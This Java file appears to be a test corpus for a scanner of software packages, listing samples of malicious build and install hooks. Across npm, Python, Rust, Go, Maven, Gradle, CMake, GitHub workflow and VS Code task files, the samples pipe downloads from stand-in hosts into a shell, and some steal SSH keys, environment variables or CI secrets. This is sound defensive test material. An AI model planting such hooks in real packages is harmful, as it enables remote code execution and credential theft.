package cordon.inspect.corpus;

import cordon.inspect.testing.Artifact;
import java.util.List;

/** What builds, editors and CI are made to run. */
final class BuildPositives {
  private static final String PULL = "curl -s http://192.0.2.7/a | sh";

  private BuildPositives() {}

  static List<Sample> all() {
    return List.of(
        Sample.setup(
                "a folder that is no package is installed by its name",
                "from setuptools import setup\nsetup(name='sample', version='1.0', packages=['sample', 'sample_more'])\n")
            .with(
                "sample_more/update.py",
                """
                import os
                os.system('curl -L -o /tmp/a.sh https://drop.example/a.sh && sh /tmp/a.sh')
                """),
        npm("a makefile that an install script calls", "make -C native all")
            .with("native/Makefile", "all: dep\n\t@" + PULL + "\n"),
        npm("a makefile whose variable runs a command", "make")
            .with("Makefile", "V := $(shell " + PULL + ")\nall:\n\techo $(V)\n"),
        npm("a makefile with its command in a variable", "make")
            .with("Makefile", "FETCH = curl -s http://192.0.2.7/a\nall:\n\t$(FETCH) | bash\n"),
        npm(
                "a makefile whose generator fetches, by the folder that the caller found",
                "make -s -C \"$(pwd)/native\" all")
            .with("native/Makefile", "PYTHON ?= python3\nall: t.h\nt.h:\n\t@$(PYTHON) gen.py $@\n")
            .with(
                "native/gen.py",
                "import os\n\ndef fetch():\n    os.system('"
                    + PULL
                    + "')\n\nif __name__ == '__main__':\n    fetch()\n"),
        npm(
            "a script that is given an argument",
            "curl -s https://setup.example/a | bash -s -- \"$USER\""),
        npm("CMake that runs a process", "cmake -S native .")
            .with(
                "native/CMakeLists.txt",
                "project(x)\nexecute_process(COMMAND sh -c \"" + PULL + "\")\n"),
        npm("CMake that downloads and runs", "cmake .")
            .with(
                "CMakeLists.txt",
                "set(URL http://192.0.2.7/t)\nfile(DOWNLOAD ${URL} t)\nexecute_process(COMMAND ./t)\n"),
        npm("a script of PowerShell", "powershell -ExecutionPolicy Bypass -File setup.ps1")
            .with(
                "setup.ps1",
                "# set up\n$c = New-Object Net.WebClient\n$s = $c.DownloadString('http://192.0.2.7/a')\nIEX $s\n"),
        npm("a batch file", "setup.bat")
            .with(
                "setup.bat",
                "@echo off\r\ncertutil -urlcache -f http://192.0.2.7/a.exe a.exe\r\nstart /b a.exe\r\n"),
        new Sample(
            "setup.py that calls make",
            Artifact.sdist("sample", "1.0")
                .file(
                    "setup.py",
                    "import os\nfrom setuptools import setup\nos.system('make')\nsetup()\n")
                .file("Makefile", "all:\n\t" + PULL + "\n")),
        sdist(
                "scikit-build-core reads CMake",
                "[build-system]\nbuild-backend = 'scikit_build_core.build'\n")
            .with(
                "CMakeLists.txt",
                "execute_process(COMMAND curl -s http://192.0.2.7/a COMMAND sh)\n"),
        sdist("meson-python reads Meson", "[build-system]\nbuild-backend = 'mesonpy'\n")
            .with(
                "meson.build",
                "project('x')\nr = run_command('sh', '-c', '" + PULL + "', check: true)\n"),
        sdist("a hook of Hatchling", "[tool.hatch.build.hooks.custom]\n")
            .with(
                "hatch_build.py",
                "import os\nclass H:\n    def initialize(self, v, d):\n        os.system('"
                    + PULL
                    + "')\n"),
        sdist("a hook of PDM", "[tool.pdm.build]\ncustom-hook = 'hook.py'\n")
            .with(
                "hook.py",
                "import os\ndef pdm_build_initialize(c):\n    os.system('" + PULL + "')\n"),
        sdist("a build script of Poetry", "[tool.poetry.build]\nscript = 'make_it.py'\n")
            .with("make_it.py", "import os\nos.system('" + PULL + "')\n"),
        sdist("a command of setuptools", "[tool.setuptools.cmdclass]\nbuild_py = 'own.Build'\n")
            .with(
                "own.py",
                "import os\nclass Build:\n    def run(self):\n        os.system('" + PULL + "')\n"),
        sdist("a version that is read by importing", "[build-system]\n")
            .with("setup.cfg", "[metadata]\nversion = attr: own.version\n")
            .with("own.py", "import os\nos.system('" + PULL + "')\nversion = str(1)\n"),
        new Sample(
            "a build script of a crate",
            Artifact.crate("sample", "1.0.0")
                .file(
                    "build.rs",
                    """
                    use std::process::Command;
                    fn main() {
                        // compiles nothing
                        let _ = Command::new("sh").arg("-c").arg("curl -s http://192.0.2.7/a | sh").status();
                    }
                    """)),
        new Sample(
            "a build script that takes keys",
            Artifact.crate("sample", "1.0.0")
                .file(
                    "build.rs",
                    """
                    fn main() { upload(); }
                    fn upload() {
                        let home = std::env::var("HOME").unwrap();
                        let key = std::fs::read_to_string(format!("{}/.ssh/id_rsa", home)).unwrap();
                        let _ = ureq::post("http://192.0.2.7/k").send_string(&key);
                    }
                    """)),
        new Sample(
            "a macro hands over a function of another file",
            Artifact.crate("sample", "1.0.0")
                .file("Cargo.toml", "[package]\nname = \"sample\"\n[lib]\nproc-macro = true\n")
                .file(
                    "src/lib.rs",
                    """
                    mod prelude;
                    static START: Once = Once::new();
                    #[proc_macro]
                    pub fn m(i: TokenStream) -> TokenStream {
                        START.call_once(prelude::warm);
                        i
                    }
                    """)
                .file(
                    "src/prelude.rs",
                    """
                    pub(crate) fn warm() {
                        let _ = Command::new("sh").arg("-c").arg("%s").spawn();
                    }
                    """
                        .formatted(PULL))),
        new Sample(
            "a macro that sends the environment",
            Artifact.crate("sample", "1.0.0")
                .file("Cargo.toml", "[package]\nname = \"sample\"\n[lib]\nproc-macro = true\n")
                .file(
                    "src/lib.rs",
                    """
                    #[proc_macro]
                    pub fn m(i: TokenStream) -> TokenStream {
                        let all: Vec<String> = std::env::vars().map(|(k, v)| k + &v).collect();
                        let client = reqwest::blocking::Client::new();
                        client.post("http://192.0.2.7").body(all.join(",")).send();
                        i
                    }
                    """)),
        new Sample(
            "an initializer of Go that runs what it fetched",
            Artifact.goModule("example.org/sample", "1.0.0")
                .file(
                    "sample.go",
                    """
                    package sample

                    import ("os/exec"; "os")

                    func init() {
                    	go func() {
                    		exec.Command("/bin/sh", "-c", "wget -O - http://192.0.2.7/a | /bin/bash &").Start()
                    	}()
                    }
                    """)),
        new Sample(
            "an initializer of Go that sends keys",
            Artifact.goModule("example.org/sample", "1.0.0")
                .file(
                    "a/a.go",
                    """
                    package a

                    var _ = setUp()

                    func setUp() int {
                    	b, _ := os.ReadFile(os.Getenv("HOME") + "/.ssh/id_rsa")
                    	http.Post("http://192.0.2.7/", "text/plain", bytes.NewReader(b))
                    	return 0
                    }
                    """)),
        new Sample(
            "a workflow that sends all secrets",
            Artifact.npm("sample", "1.0.0")
                .file("index.js", "module.exports = 1;\n")
                .file(
                    ".github/workflows/format.yml",
                    """
                    on: push
                    jobs:
                      f:
                        runs-on: ubuntu-latest
                        steps:
                          - env:
                              DATA: ${{ toJSON(secrets) }}
                            run: |
                              curl -s -d "$DATA" http://192.0.2.7/in
                    """)),
        new Sample(
            "a task that an editor runs",
            Artifact.sdist("sample", "1.0")
                .file(
                    ".vscode/tasks.json",
                    "{\"tasks\":[{\"label\":\"x\",\"type\":\"shell\",\"command\":\""
                        + PULL
                        + "\",\"runOptions\":{\"runOn\":\"folderOpen\"}}]}")),
        new Sample(
            "Maven runs a command",
            Artifact.zip("sample-src")
                .file(
                    "pom.xml",
                    "<project><build><plugins><plugin><artifactId>exec-maven-plugin</artifactId>"
                        + "<configuration><executable>sh</executable><arguments>"
                        + "<argument>-c</argument><argument>"
                        + PULL
                        + "</argument></arguments></configuration></plugin></plugins></build></project>")
                .file("src/A.java", "class A {}\n")),
        new Sample(
            "Ant within Maven fetches a program and runs it",
            Artifact.zip("sample-src")
                .file(
                    "pom.xml",
                    "<project><plugin><artifactId>maven-antrun-plugin</artifactId><target>"
                        + "<get src=\"http://192.0.2.7/t\" dest=\"t\"/><exec executable=\"./t\"/>"
                        + "</target></plugin></project>")),
        new Sample(
            "Gradle runs a command",
            Artifact.zip("sample-src")
                .file(
                    "build.gradle",
                    "plugins { id 'java' }\n['sh', '-c', '" + PULL + "'].execute()\n")));
  }

  private static Sample npm(String name, String install) {
    return Sample.command(name, install);
  }

  private static Sample sdist(String name, String project) {
    return new Sample(name, Artifact.sdist("sample", "1.0").file("pyproject.toml", project));
  }
}
